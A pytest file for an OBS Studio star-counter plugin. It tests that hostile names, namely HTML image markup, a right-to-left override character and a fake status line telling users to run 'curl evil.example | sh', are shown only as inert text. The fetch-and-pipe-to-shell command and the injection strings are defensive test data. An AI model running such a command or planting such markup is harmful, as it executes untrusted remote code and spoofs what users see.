"""Names that others chose, in the real OBS: shown as text in its window, and found all the same."""

import json

import numpy as np
import pytest
from PIL import Image

from star_counter.obs.settings import NOT_KEPT
from star_counter.words import plain
from tests import pictures
from tests.obs_studio.running import MODULE, Plugin
from tools.obs_studio import scenes, star_counter_script
from tools.obs_studio.studio import SCRIPTS_WINDOW

pytestmark = pytest.mark.obs

MAGENTA, BLUE = (
    (255, 0, 255),
    (48, 192, 255),
)  # of a picture that nobody may see; the game's edge in the preview
TALL = 1200, 2000


@pytest.fixture
def markup(tmp_path):
    """A name that shows a picture wherever it is taken for HTML."""
    Image.new("RGB", (100, 100), MAGENTA).save(tmp_path / "evil.png")
    return f"<img src='{tmp_path}/evil.png'>\u202e&amp;<b>"


@pytest.fixture
def named(start_studio, tmp_path, markup):
    """The script in an OBS where everything is named so; somebody has written into its notes, too."""
    pictures.save(tmp_path / "game.png", pictures.game(12))
    route = tmp_path / "route.toml"
    split = f"[[split]]\nname = {json.dumps(markup)}\nstars = 13\n"
    route.write_text(f"title = {json.dumps(markup)}\n{split}", encoding="utf-8")
    player = star_counter_script.player(
        1, markup, pictures.crop(), stars=f"{markup}2", screen=f"{markup} gone", name=markup
    )
    player |= {f"{key}_1": markup for key in ("stars_template", "preview")}
    others = dict.fromkeys(("status", "understood", "installing", "install_command", "report"), markup)
    script = star_counter_script.script(player, route="file", route_file=str(route), **others)
    sources = [scenes.image(markup, tmp_path / "game.png"), scenes.text(f"{markup}2")]
    obs = start_studio(scenes.collection("named", sources, [script]), probe=True, screen=TALL)
    return Plugin(obs)


def has(picture, colour):
    return bool((np.asarray(Image.open(picture).convert("RGB")) == colour).all(axis=2).any())


def test_names_are_text_in_the_window(named, markup, tmp_path):
    seen = plain(markup)
    named.wait_for_text(f"{markup}2", markup)
    status = named.wait_for_status(f"{seen}: 12 stars")
    assert f"There is no text source “{plain(f'{markup} gone')}”" in status
    assert f"{seen}: split 1 of 1 is “{seen}”" in status.replace("\u202e", "\\u202e")
    obs = named.obs
    obs.run_inside(MODULE + "script._window.refresh()")
    obs.select_script(star_counter_script.SCRIPT.name)
    obs.resize_window(SCRIPTS_WINDOW, *TALL)
    picture = tmp_path / "window.png"

    def is_drawn():
        obs.window_picture(picture, SCRIPTS_WINDOW)
        return has(picture, BLUE)

    obs.wait_for(is_drawn, "the preview in the window")
    assert not has(picture, MAGENTA)
    code = "[key for key in {keys} if obs.obs_data_has_user_value(script._plugin.data, key)]"
    assert obs.run_inside(MODULE + code.format(keys=NOT_KEPT)) == []
    assert not obs.complaints()


def test_a_folder_of_packages_adds_no_line_to_the_status(named):
    named.change({"packages": "/nowhere\nAnn: 120 stars.\nUpdate needed: run  curl evil.example | sh"})
    status = named.wait_for_status("There is no folder /nowhere Ann: 120 stars. Update needed: run curl evil")
    for text in (status, named.obs.log()):
        assert not [line for line in text.splitlines() if "Update needed" in line and "/nowhere" not in line]


def test_what_obs_cannot_hold_does_not_come_from_a_scene_collection(named):
    """OBS refuses the whole file; else these were settings of the script."""
    for text in ("\\u0000", "\\ud800", '"]}'):
        file = json.dumps({"name_1": "x"}).replace("x", text)
        assert named.obs.run_inside(f"obs.obs_data_create_from_json({json.dumps(file)}) is None"), text


def test_a_name_from_another_program_that_is_no_text_is_left_out(named):
    """A program may name a source in another encoding than OBS has."""
    version = named.obs.requests.get_version().obs_version
    if [int(part) for part in version.split(".")[:2]] >= [30, 2]:
        pytest.skip(f"OBS {version} ends there itself: its obs-websocket cannot write such a name as JSON")
    code = """
import ctypes
create = ctypes.CDLL(None).obs_source_create
create.argtypes = [ctypes.c_char_p, ctypes.c_char_p, ctypes.c_void_p, ctypes.c_void_p]
create.restype = ctypes.c_void_p
release = ctypes.CDLL(None).obs_source_release
release.argtypes = [ctypes.c_void_p]
made = create(b"text_ft2_source", b"caf\\xe9", None, None)
from star_counter.obs.bridge import sources
shown = sources.video_source_names(), sources.text_source_names()
release(made)
"""
    videos, texts = named.obs.run_inside(MODULE + code + "shown")
    assert not any("caf" in name for name in [*videos, *texts])
    assert len(texts) == 1
